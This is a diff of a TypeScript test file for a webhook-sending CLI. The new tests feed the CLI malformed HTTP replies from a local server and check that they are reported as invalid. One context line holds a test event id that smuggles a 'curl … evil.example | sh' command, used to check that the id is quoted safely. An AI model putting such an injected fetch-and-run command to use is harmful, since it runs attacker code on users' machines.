@@ -67,6 +67,26 @@ it("a failed handshake of TLS is told by OpenSSL's own words, however deep they 
   expect(hint("wrong version number")).toContain("use http://");
 });
 
+it.each([
+  ["HTTP/1.1 200 OK\nContent-Length: 0\n\n", "end with a line feed alone"],
+  ["HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 2\r\n\r\n{}", "Content-Length stands twice"],
+  ["HTTP/1.1 200 OK\r\nContent-Length: x\r\n\r\n", "is no number"],
+  ["HTTP/1.1 200 OK\r\nX-A: a\r\n b\r\n\r\n", "goes on in the next line"],
+  [`HTTP/1.1 200 OK\r\nX-A: ${"a".repeat(20_000)}\r\n\r\n`, "more than 16 KiB"],
+  ["SSH-2.0-OpenSSH_9.2\r\n", "Something else than HTTP/1.1 may answer there"],
+])("a header section that cannot be read is told from what is no HTTP: %j", async (answer, words) => {
+  const server = createServer((socket) =>
+    socket.on("error", () => {}).once("data", () => socket.end(answer)),
+  );
+  await once(server.listen(0, "127.0.0.1"), "listening");
+  onTestFinished(() => void server.close());
+  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/api/v1/webhooks/incoming/x`;
+  const argv = ["send", url, "--secret-file", path("secret.txt"), "--data", "{}", "--retries", "0"];
+  const [exit, shown] = await outcome(argv);
+  expect([exit, shown]).toEqual([6, expect.stringContaining("RESPONSE_INVALID")]);
+  expect(shown.replaceAll(/\s+/g, " ")).toContain(words);
+});
+
 it("an event's id of its own form is one word in the command to paste", async () => {
   const record = {
     ...{ v: 1, type: "event", at: Date.now(), eventId: "x;curl<evil.example|sh", url: LISTENER },
